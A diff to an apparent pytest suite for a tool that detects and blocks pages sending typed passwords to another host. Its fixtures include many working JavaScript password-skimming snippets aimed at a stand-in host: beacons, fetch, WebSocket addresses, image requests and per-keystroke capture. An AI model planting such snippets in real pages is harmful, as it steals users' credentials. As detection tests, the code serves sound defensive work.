@@ -28,6 +28,9 @@ def on_submit(script: str, form: str = FORM) -> str:
     return f"{form}<script>f.onsubmit = (event) => {{ event.preventDefault(); {script} }}</script>"
 
 
+CHAT = "new WebSocket('THERE/?'.replace('http', 'ws') + Math.random())"
+HELLO = "/?0."
+"""How its handshake begins, which may get through as long as no password was typed."""
 WAYS = {
     "the form's own address": "<form method=post action=THERE/take><input name=p type=password></form>",
     "a form in a new window": "<form method=post action=THERE/take target=_blank><input name=p type=password></form>",
@@ -42,11 +45,15 @@ WAYS = {
     "XMLHttpRequest": on_submit("let x = new XMLHttpRequest(); x.open('POST', 'THERE/take'); x.send(new FormData(f))"),
     "a beacon": on_submit("navigator.sendBeacon('THERE/take', p.value)"),
     "a blob": on_submit("navigator.sendBeacon('THERE/take', new Blob([p.value]))"),
+    "a field on wide windows only": "<style>@media (width < 500px) { form { display: none } }</style>"
+    "<form method=post action=THERE/take><input name=p type=password></form>",
+    "a socket that holds it in its address": f"<script>addEventListener('focusin', () => {CHAT})</script>"
+    + on_submit("new WebSocket('THERE/?'.replace('http', 'ws') + p.value)"),
     "a picture": on_submit("new Image().src = 'THERE/take?' + [...p.value].reverse().join('')"),
     "another page": on_submit("location = 'THERE/take?p=' + p.value"),
     "a socket": on_submit("new WebSocket('THERE/take'.replace('http', 'ws')).onopen = (e) => e.target.send(p.value)"),
     "a worker": "<script>w = new Worker('/worker.js')</script>" + on_submit("w.postMessage('THERE/take?p=' + p.value)"),
-    "each key": f"{FORM}<script>p.oninput = () => fetch('THERE/take?' + p.value)</script>",
+    "each key": on_submit("") + "<script>p.oninput = () => fetch('THERE/take?' + p.value)</script>",
     "a hand's press alone": "<input id=p type=password><div role=button id=b>Sign in</div><script>"
     "b.onclick = (event) => event.isTrusted && fetch('THERE/take?' + p.value)</script>",
     "a press on what is covered": "<div style='position: fixed; inset: 0'></div><input id=p type=password>"
@@ -60,6 +67,8 @@ WAYS = {
 HARMLESS = {
     "no password": "<form method=post action=THERE/take><input type=email name=p><button>Subscribe</button></form>",
     "a counter": on_submit("navigator.sendBeacon('THERE/take', 'form_submit')"),
+    "a chat that opens at the first key": f"<script>addEventListener('keydown', () => {CHAT})</script>{FORM}",
+    "a chat that opens at the first focus": f"<script>addEventListener('focusin', () => {CHAT})</script>{FORM}",
     "nothing happens": on_submit(""),
     "nothing to press": "<input type=password>",
     "a password that isn't to be typed in": "<form action=THERE/take><input type=password disabled></form>",
@@ -112,7 +121,7 @@ def test_where_a_password_would_go_is_told_and_nobody_gets_it(
 ) -> None:
     view = visit(page)
     assert [place.partition("://")[2] for place in view.rendering.sent_to] == [collector.place]
-    assert collector.requests == []
+    assert [request for request in collector.requests if not request.target.startswith(HELLO)] == []
 
 
 @pytest.mark.parametrize("page", HARMLESS.values(), ids=HARMLESS)
@@ -123,7 +132,7 @@ def test_a_page_that_sends_no_password_is_seen_as_it_was_before(
     assert {f"{place}/" for place in view.rendering.sent_to} <= {stage[0].url}
     assert (view.rendering.is_measured, view.rendering.attempts, view.rendering.console_errors) == (True, (), ())
     assert set(view.pictures) == {"wide", "phone"}
-    assert collector.requests == []
+    assert [request for request in collector.requests if not request.target.startswith(HELLO)] == []
 
 
 def test_a_socket_that_was_open_all_the_time_is_heard_and_hushed(
